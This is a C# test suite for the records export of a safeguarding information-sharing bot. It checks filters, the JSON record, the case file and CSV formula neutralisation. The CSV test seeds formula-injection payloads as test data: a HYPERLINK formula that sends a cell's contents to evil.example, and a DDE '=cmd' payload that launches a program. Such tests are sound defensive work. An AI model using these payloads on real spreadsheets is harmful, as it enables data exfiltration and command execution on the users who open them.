using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using InfoSharing.Bot.Approvals;
using InfoSharing.Bot.Records.Export;
using InfoSharing.Bot.Storage;
using InfoSharing.Bot.Tests.Storage;
using InfoSharing.Bot.Workflow;
using InfoSharing.Bot.Cards;

namespace InfoSharing.Bot.Tests.Records;

/// <summary>
/// The export over the real host with a real Entra-style token (Records.Read): filters, the JSON document, the
/// CSV's quoting and formula neutralisation, and the case file of a full journey against its golden file.
/// Run on SQLite and PostgreSQL.
/// </summary>
public abstract class RecordsExportTests : IAsyncLifetime
{
    private EntraIssuer? _issuer;

    protected EntraIssuer Issuer => _issuer ?? throw new InvalidOperationException("not started");

    protected abstract Task<RecordsDatabase> DatabaseAsync();

    public async ValueTask InitializeAsync() => _issuer = await EntraIssuer.StartAsync();

    public async ValueTask DisposeAsync()
    {
        if (_issuer is not null)
        {
            await _issuer.DisposeAsync();
        }
    }

    private async Task<RecordsHost> HostAsync() => new(await DatabaseAsync(), Issuer.HostSettings());

    private string Reader(RecordsHost host) => EntraIssuer.Bearer(Issuer.Token(host.Clock.GetUtcNow(), "Records.Read"));

    private static async Task<string> TextAsync(HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {body}");
        return body;
    }

    [Fact]
    public async Task List_Filters_SelectTheMatchingRecords()
    {
        await using var host = await HostAsync();
        InfoRequestRow R(string reference, string matter, string status, string submitted) =>
            RecordSeeds.Row(reference, RecordSeeds.Submission("CS-" + reference[^4..], matter, DateTimeOffset.Parse(submitted, System.Globalization.CultureInfo.InvariantCulture),
                "Attendance records for the spring term.", "A strategy discussion can take place."), status);
        await RecordSeeds.SeedAsync(host,
        [
            R("ISR-2026-0001", "prevent", RequestStatus.Pending, "2026-03-01T10:00:00Z"),
            R("ISR-2026-0002", "safeguarding-child", RequestStatus.Approved, "2026-06-30T23:30:00Z"), // 1 July, 00:30 BST
            R("ISR-2026-0003", "safeguarding-child", RequestStatus.Declined, "2026-07-15T12:00:00Z"),
            R("ISR-2026-0004", "prevent", RequestStatus.Approved, "2026-10-01T08:00:00Z"),
            R("ISR-2026-0005", "safeguarding-adult", RequestStatus.MoreInfoRequested, "2026-11-01T09:00:00Z"),
        ]);

        var cases = new (string Query, int[] Expected)[]
        {
            ("", [1, 2, 3, 4, 5]),
            ("?type=request", [1, 2, 3, 4, 5]),
            ("?status=approved", [2, 4]),
            ("?status=more-info-requested", [5]),
            ("?decision=none", [1, 5]),
            ("?decision=declined", [3]),
            ("?matterType=prevent", [1, 4]),
            ("?from=2026-07-01", [2, 3, 4, 5]),                         // a UK day: 30 June 23:30 UTC is 1 July in the UK
            ("?to=2026-06-30", [1]),
            ("?from=2026-07-01T00:00:00Z", [3, 4, 5]),                 // an instant
            ("?from=2026-07-01&to=2026-07-31&matterType=safeguarding-child", [2, 3]),
            ("?status=approved&matterType=safeguarding-adult", []),
        };
        foreach (var (query, expected) in cases)
        {
            var list = JsonNode.Parse(await TextAsync(await host.GetAsync("/records" + query, Reader(host))))!.AsArray();
            Assert.True(expected.Select(n => $"ISR-2026-{n:0000}").SequenceEqual(list.Select(i => i!["reference"]!.GetValue<string>())),
                $"{query}: {string.Join(", ", list.Select(i => i!["reference"]))}");
        }

        // the same filters on the CSV
        var csv = CsvParser.Parse((await TextAsync(await host.GetAsync("/records/export.csv?from=2026-07-01&to=2026-07-31&matterType=safeguarding-child", Reader(host)))).TrimStart('\uFEFF'));
        Assert.Equal(["ISR-2026-0002", "ISR-2026-0003"], csv.Skip(1).Select(r => r[0]));
    }

    [Fact]
    public async Task List_InvalidFilter_Is400WithProblemDetailsNamingEachParameter()
    {
        await using var host = await HostAsync();
        var response = await host.GetAsync("/records?status=lost&decision=maybe&from=yesterday&matterType=Robert%20Smith", Reader(host));
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.StartsWith("application/problem+json", response.Content.Headers.ContentType?.ToString(), StringComparison.Ordinal);
        var errors = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["errors"]!.AsObject();
        Assert.Equal(["decision", "from", "matterType", "status"], errors.Select(e => e.Key).Order(StringComparer.Ordinal));
        Assert.DoesNotContain(await host.AuditAsync(), e => e.Action.StartsWith("export", StringComparison.Ordinal)); // nothing exported, nothing audited
    }

    [Fact]
    public async Task Record_Json_HasEveryPartOfTheDecisionRecord()
    {
        await using var host = await HostAsync();
        var s = RecordSeeds.Submission("CS-778899", "safeguarding-child", new DateTimeOffset(2026, 9, 1, 10, 0, 0, TimeSpan.Zero),
            "The two most recent referral summaries.", "The duty team can hold a strategy discussion.", views: "Mother said she wants to be told first.");
        var row = RecordSeeds.Row("ISR-2026-0042", s, RequestStatus.Declined, new DateTime(2026, 9, 1, 12, 0, 0, DateTimeKind.Utc));
        row.OutcomeJson = "{\"outcome\":\"not-shared\",\"reason\":\"declined\"}";
        await RecordSeeds.SeedAsync(host, [row],
        [
            RecordSeeds.Action(row, "decline", new DateTime(2026, 9, 1, 12, 0, 0, DateTimeKind.Utc), "not-proportionate", "Less would meet the purpose: share the chronology only."),
        ]);

        var json = JsonNode.Parse(await TextAsync(await host.GetAsync("/records/ISR-2026-0042", Reader(host))))!.AsObject();

        Assert.Equal(
            ["reference", "id", "type", "status", "standing", "deliveryProblem", "policyVersion", "caseReference", "requesterAadObjectId", "requesterName", "matterType", "subjectType",
             "urgency", "deadlineUtc", "requiresDpo", "requiresPreventLead", "createdAtUtc", "submittedAtUtc", "answers", "approverActions", "decision",
             "outcome", "retention", "audit"],
            json.Select(p => p.Key));
        Assert.Equal("ISR-2026-0042", json["reference"]!.GetValue<string>());
        Assert.Equal(RequestStatus.Title(RequestStatus.Declined), json["standing"]!.GetValue<string>());
        Assert.Null(json["deliveryProblem"]); // nothing failed to arrive
        Assert.Equal("2026.11.1", json["policyVersion"]!.GetValue<string>());
        Assert.Equal("CS-778899", json["answers"]!["about"]!["caseReference"]!.GetValue<string>());
        Assert.Equal("2026.11.1", json["answers"]!["policyVersion"]!.GetValue<string>());
        Assert.Equal("Mother said she wants to be told first.", json["answers"]!["consent"]!["views"]!.GetValue<string>());
        Assert.Equal("The chronology, because \"dates\" matter.", json["answers"]!["necessity"]!["checks"]![1]!["explanation"]!.GetValue<string>());
        var action = json["approverActions"]![0]!;
        Assert.Equal(("decline", "not-proportionate", "Approver", "2026-09-01T12:00:00Z"),
            (action["action"]!.GetValue<string>(), action["reasonCode"]!.GetValue<string>(), action["actorRole"]!.GetValue<string>(), action["atUtc"]!.GetValue<string>()));
        Assert.Equal("declined", json["decision"]!["outcome"]!.GetValue<string>());
        Assert.Equal(RecordSeeds.Approver, json["decision"]!["byAadObjectId"]!.GetValue<string>());
        Assert.Equal("not-shared", json["outcome"]!["outcome"]!.GetValue<string>());
        Assert.Equal("safeguarding-information-sharing", json["retention"]!["class"]!.GetValue<string>());
        Assert.Equal("2032-09-01T10:00:00Z", json["retention"]!["reviewDateUtc"]!.GetValue<string>());
        Assert.False(json["retention"]!["legalHold"]!.GetValue<bool>());
        Assert.Null(json["retention"]!["contentDeletedAtUtc"]);

        // this export is itself in the record's audit trail, in the document it produced
        var audit = json["audit"]!.AsArray().Single()!;
        Assert.Equal(("export-record", EntraIssuer.AuditorOid, "entra"),
            (audit["action"]!.GetValue<string>(), audit["actor"]!.GetValue<string>(), audit["details"]!["via"]!.GetValue<string>()));

        var missing = await host.GetAsync("/records/ISR-2026-9999", Reader(host));
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        Assert.Equal("application/problem+json", missing.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task Csv_FreeText_IsQuotedPerRfc4180AndFormulasAreNeutralised()
    {
        await using var host = await HostAsync();
        var nasty = new Dictionary<string, string>
        {
            ["ISR-2026-0001"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ["ISR-2026-0002"] = "+1+2 looks like a sum",
            ["ISR-2026-0003"] = "-2 and a minus",
            ["ISR-2026-0004"] = "@SUM(A1:A9) at sign",
            ["ISR-2026-0005"] = "\tstarts with a tab",
            ["ISR-2026-0006"] = "\rstarts with a carriage return",
            ["ISR-2026-0007"] = "Commas, \"quotes\" and\r\nline breaks\nare kept",
        };
        var start = new DateTimeOffset(2026, 9, 1, 10, 0, 0, TimeSpan.Zero);
        var rows = nasty.Select((n, i) => RecordSeeds.Row(n.Key, RecordSeeds.Submission("CS-10000" + i, "safeguarding-child", start.AddHours(i), n.Value, "A strategy discussion can take place."))).ToList();
        await RecordSeeds.SeedAsync(host, rows, [RecordSeeds.Action(rows[0], "approve", start.UtcDateTime.AddDays(1), conditions: "=cmd|' /C calc'!A0")]);

        var response = await host.GetAsync("/records/export.csv", Reader(host));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("records.csv", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]); // UTF-8 byte-order mark, so spreadsheets read UTF-8
        var text = Encoding.UTF8.GetString(bytes.AsSpan(3));
        var table = CsvParser.Parse(text);

        Assert.Equal(RecordCsv.Headers, table[0]);
        Assert.All(table, r => Assert.Equal(RecordCsv.Headers.Count, r.Count));
        var items = table[0].IndexOf("items_description");
        var byReference = table.Skip(1).ToDictionary(r => r[0]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", byReference["ISR-2026-0001"][items]);
        Assert.Equal("'+1+2 looks like a sum", byReference["ISR-2026-0002"][items]);
        Assert.Equal("'-2 and a minus", byReference["ISR-2026-0003"][items]);
        Assert.Equal("'@SUM(A1:A9) at sign", byReference["ISR-2026-0004"][items]);
        Assert.Equal("'\tstarts with a tab", byReference["ISR-2026-0005"][items]);
        Assert.Equal("'\rstarts with a carriage return", byReference["ISR-2026-0006"][items]);
        Assert.Equal("Commas, \"quotes\" and\r\nline breaks\nare kept", byReference["ISR-2026-0007"][items]);
        Assert.Contains("\"Commas, \"\"quotes\"\" and\r\nline breaks\nare kept\"", text, StringComparison.Ordinal);
        Assert.Contains("=no (The chronology, because \"dates\" matter.)", byReference["ISR-2026-0001"][table[0].IndexOf("necessity_checks")], StringComparison.Ordinal);
        Assert.EndsWith("| =cmd|' /C calc'!A0", byReference["ISR-2026-0001"][table[0].IndexOf("approver_actions")], StringComparison.Ordinal); // inside the cell: not at its start
        Assert.Equal("2026-09-01T10:00:00.000Z", byReference["ISR-2026-0001"][table[0].IndexOf("submitted_at_utc")]);

        // no cell of the export starts with a formula character
        Assert.All(table.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
    }

    [Fact]
    public async Task CaseFile_FullJourney_MatchesTheGoldenFile()
    {
        await using var journey = await RecordsJourney.StartAsync(await DatabaseAsync(), Issuer.HostSettings());
        await journey.RunAsync();
        await journey.TickAsync();

        var response = await journey.Host.GetAsync($"/records/{journey.Reference}/case-file", Reader(journey.Host));
        Assert.Equal("text/markdown", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"{journey.Reference}.md", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName);
        var markdown = await TextAsync(response);

        Golden.AssertMatches("case-file-full-journey.md", markdown);
        var last = (await journey.Host.AuditAsync())[^1];
        Assert.Equal(("export-case-file", EntraIssuer.AuditorOid), (last.Action, last.Actor));
    }
}

public sealed class SqliteRecordsExportTests : RecordsExportTests
{
    protected override Task<RecordsDatabase> DatabaseAsync() => Task.FromResult(RecordsDatabase.Sqlite);
}

[Collection(PostgresCollection.Name)]
public sealed class PostgresRecordsExportTests(PostgresServer server) : RecordsExportTests
{
    protected override Task<RecordsDatabase> DatabaseAsync() => RecordsDatabase.PostgresAsync(server);
}
